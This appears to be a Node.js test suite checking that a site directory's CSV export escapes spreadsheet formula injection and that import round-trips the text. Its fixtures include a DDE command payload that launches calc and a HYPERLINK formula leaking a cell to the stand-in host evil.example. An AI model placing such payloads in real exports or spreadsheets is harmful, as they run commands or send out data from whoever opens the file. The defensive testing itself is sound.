// The public CSV export must not hand spreadsheets formulas: a text cell
// that starts with = + - @ tab or CR goes out with a leading single quote
// (OWASP's CSV injection advice). Numbers stay numbers (a negative lat or
// lon is not quoted), and importing the export gives back the original
// text.
import { describe, it, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, ADMIN_TOKEN, expectStatus } from './lib/server.mjs';
import { parseCsv, csvObjects } from './lib/csv.mjs';

const TEXT_COLUMNS = [
  'name_zh', 'name_en', 'type', 'region', 'address_zh', 'address_en', 'phone', 'manager',
  'description', 'status', 'status_reason', 'opening_hours', 'amenities', 'photos',
];
const TRIGGER = /^[=+\-@\t\r]/;

// What each site is created with, and how its cells must be exported.
const SITES = [
  {
    json: {
      name_zh: "=cmd|' /C calc'!A0", name_en: '+SUM(1,2)', address_zh: '@SUM(A1:A9)',
      address_en: '\tstarts with a tab', manager: '-2+3',
      description: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      phone: '+86 138 0000 0000', type: 'warm_hut', position: { lat: -33.8688, lon: 151.2093 },
    },
    cells: {
      name_zh: "'=cmd|' /C calc'!A0", name_en: "'+SUM(1,2)", address_zh: "'@SUM(A1:A9)",
      address_en: "'\tstarts with a tab", manager: "'-2+3",
      description: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      phone: "'+86 138 0000 0000", lat: '-33.8688000', lon: '151.2093000',
    },
  },
  {
    // Text that already starts with a quote: only when a trigger follows
    // does it get one more, so that the import can take exactly one off.
    json: {
      name_zh: "'=already quoted", name_en: "'plain quote", address_zh: "''@two quotes",
      description: '\r\nstarts with a line break', manager: 'a=b, not at the start',
      type: 'warm_hut', position: { lat: 40.7128, lon: -74.006 },
    },
    cells: {
      name_zh: "''=already quoted", name_en: "'plain quote", address_zh: "'''@two quotes",
      description: "'\r\nstarts with a line break", manager: 'a=b, not at the start',
      lat: '40.7128000', lon: '-74.0060000',
    },
  },
];

describe('CSV export: formula injection', () => {
  let srv;
  let anon;
  let admin;
  const ids = [];
  before(async () => {
    srv = await startServer({ demo: true });
    anon = srv.client();
    admin = srv.client(ADMIN_TOKEN);
    for (const s of SITES) ids.push(expectStatus(await admin.post('/api/sites', s.json), 201).json.id);
  });
  after(async () => {
    if (srv) await srv.stop();
  });
  afterEach(() => srv.assertHealthy());

  it('no text cell of the export starts with = + - @ tab or CR; numbers stay numbers', async () => {
    const text = expectStatus(await anon.get('/api/sites/export'), 200).text;
    const rows = csvObjects(text);
    for (const row of rows)
      for (const c of TEXT_COLUMNS)
        assert.doesNotMatch(row[c], TRIGGER, `site ${row.id}, column ${c}: ${JSON.stringify(row[c])}`);
    SITES.forEach((s, i) => {
      const row = rows.find((r) => Number(r.id) === ids[i]);
      for (const [c, want] of Object.entries(s.cells)) assert.equal(row[c], want, `site ${i}, column ${c}`);
    });
    // every lat and lon is a plain number, negative ones included
    for (const row of rows) {
      assert.match(row.lat, /^-?\d+\.\d{7}$/);
      assert.match(row.lon, /^-?\d+\.\d{7}$/);
    }
  });

  it('export -> import gives back the original text, and the same export', async () => {
    const first = expectStatus(await anon.get('/api/sites/export'), 200).text;
    const n = parseCsv(first).length - 1;
    assert.deepEqual(expectStatus(await admin.postCsv('/api/sites/import', first), 200).json, { imported: n });
    for (let i = 0; i < SITES.length; i++) {
      const got = expectStatus(await anon.get(`/api/sites/${ids[i]}`), 200).json;
      for (const [k, v] of Object.entries(SITES[i].json)) {
        if (k === 'position') assert.deepEqual(got.position, { ...v, datum: 'wgs84' });
        else assert.equal(got[k], v, `site ${i}, ${k}`);
      }
    }
    assert.equal(expectStatus(await anon.get('/api/sites/export'), 200).text, first);
  });

  it('import takes one quote off a text cell only where a trigger follows it', async () => {
    const csv = 'name_zh,name_en,manager,phone,type,lat,lon\r\n' +
      "'=导入公式,'plain,''-2,'+86 10 1234 5678,warm_hut,-12.5,-45.25\r\n";
    expectStatus(await admin.postCsv('/api/sites/import', csv), 200);
    const r = expectStatus(await anon.get(`/api/sites?status=any&q=${encodeURIComponent('=导入公式')}`), 200).json;
    assert.equal(r.total, 1);
    const s = r.items[0];
    assert.equal(s.name_zh, '=导入公式');
    assert.equal(s.name_en, "'plain");
    assert.equal(s.manager, "'-2");
    assert.equal(s.phone, '+86 10 1234 5678');
    assert.deepEqual(s.position, { lat: -12.5, lon: -45.25, datum: 'wgs84' });
    // numeric columns are not text: a quoted number is not a number
    const bad = await admin.postCsv('/api/sites/import', "name_zh,type,lat,lon\r\n坏数,warm_hut,'-12.5,10\r\n");
    assert.equal(bad.status, 422);
    assert.deepEqual(bad.json.error.details.map((d) => [d.row, d.column, d.code]), [[2, 'lat', 'invalid_field']]);
  });
});
